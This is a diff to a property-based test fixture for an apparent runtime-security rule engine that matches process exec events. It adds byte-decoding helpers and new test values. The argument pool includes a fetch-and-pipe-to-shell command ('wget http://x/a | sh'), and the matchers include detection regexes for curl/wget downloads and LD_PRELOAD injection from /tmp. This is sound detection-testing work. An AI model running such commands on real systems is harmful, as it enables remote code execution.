@@ -1,10 +1,19 @@
-import { type CheckedRule, type Condition, compileCondition, definePlugin, type Matcher, type Readable, UNKNOWN } from '@cws/core'
+import {
+  type CheckedRule,
+  type Condition,
+  compileCondition,
+  definePlugin,
+  type Matcher,
+  type Readable,
+  type TextBytes,
+  UNKNOWN,
+} from '@cws/core'
 import { TestPipeline } from '@cws/core/testing'
 import fc from 'fast-check'
 import { anyCondition as plainCondition, anyValues as plainValues } from '../../../../core/test/fixtures/conditions.ts'
 
 /** Conditions and values of exec events, of arguments and environments too: small pools, so that conditions often hold. */
-const ARGS = ['', '-c wget http://x/a | sh', '--password=x', 'é--yes', 'curl a', '-lab', 'a\nb']
+const ARGS = ['', '-c wget http://x/a | sh', '--password=x', 'é--yes', 'curl a', '-lab', 'a\nb', '\\x41', '-c wget http://x/\\x5c | sh']
 const TEXTS: Readonly<Record<string, readonly unknown[]>> = {
   'exec.args': [...ARGS, 'x'.repeat(300), UNKNOWN],
   'exec.argv0': ['sh', '[kworker]', '', UNKNOWN],
@@ -26,6 +35,7 @@ const matcher: fc.Arbitrary<Matcher> = pick<Matcher>([
   { kind: 'pattern', text: '*é--*' },
   { kind: 'pattern', text: '[*]' },
   { kind: 'pattern', text: '*' },
+  { kind: 'pattern', text: '*x41*' },
   { kind: 'regex', text: '(?:wget|curl) \\S*a' },
   { kind: 'regex', text: '^LD_(?:PRELOAD|AUDIT)=(?:.*[: ])?/(?:tmp|dev/shm)/' },
   { kind: 'regex', text: '-[lc]+a?b?' },
@@ -53,6 +63,19 @@ const SETTLED: ReadonlySet<string> = new Set([
   ...['path', 'name', 'extension', 'memfd'].map((name) => `exec.file.${name}`),
   ...['exec.interpreter.file.path', 'process.file.path', 'process.ancestors.file.name', 'process.parent.file.name', 'process.uid'],
 ])
+
+const bytes = new Map([
+  ['exec.args', (event: Readable) => bytesOf(event.get('exec.args'), 0x20)],
+  ['exec.argv0', (event: Readable) => bytesOf(event.get('exec.argv0'), 0x20)],
+  ['exec.envp', (event: Readable) => bytesOf(event.get('exec.envp'), 0)],
+])
+
+/** Where a text, or the texts of a list, are decoded from: a space may be a zero byte there, between texts there is one. */
+function bytesOf(value: unknown, nul: number): TextBytes | undefined {
+  if (Array.isArray(value) ? !value.every((one) => typeof one === 'string') : typeof value !== 'string') return undefined
+  const text = Buffer.from(`-${Array.isArray(value) ? value.join('\0') : (value as string).replace(' ', '\0')}-`)
+  return { bytes: text, start: 1, end: text.length - 1, nul }
+}
 
 /** Makes events as dispatch would see them: kept ones, and those that know the number of what recurs of them. */
 export class Events implements AsyncDisposable {
@@ -84,9 +107,9 @@ export class Events implements AsyncDisposable {
     return this.#pipeline.runtime.engine.keptEvent(this.definition, new Map(values instanceof Map ? values : Object.entries(values)))
   }
 
-  /** The same, of a feed that knows what recurs. */
+  /** The same, of a feed that knows what recurs, and where the bytes of texts are. */
   recurring(values: Readonly<Record<string, unknown>> | ReadonlyMap<string, unknown>): Readable {
-    return Object.assign(this.of(values), { recurrence: this.#recurrence })
+    return Object.assign(this.of(values), { recurrence: this.#recurrence, bytes })
   }
 
   async [Symbol.asyncDispose](): Promise<void> {
